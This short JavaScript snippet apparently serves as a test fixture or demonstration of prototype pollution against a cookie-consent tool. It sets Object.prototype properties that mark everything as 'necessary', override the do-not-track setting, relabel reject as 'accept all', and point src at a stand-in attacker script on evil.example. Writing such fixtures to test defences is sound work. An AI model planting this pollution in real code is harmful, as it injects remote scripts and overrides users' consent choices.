/* Pollutes Object.prototype the way a careless query-string parser does (?__proto__[category]=necessary …). */
Object.prototype.category = 'necessary';
Object.prototype.src = 'https://evil.example/x.js';
Object.prototype.dnt = 'ignore';
Object.prototype.reject = '全部同意';
Object.prototype.reloadOnRevoke = true;
Object.prototype.floatingButton = true;
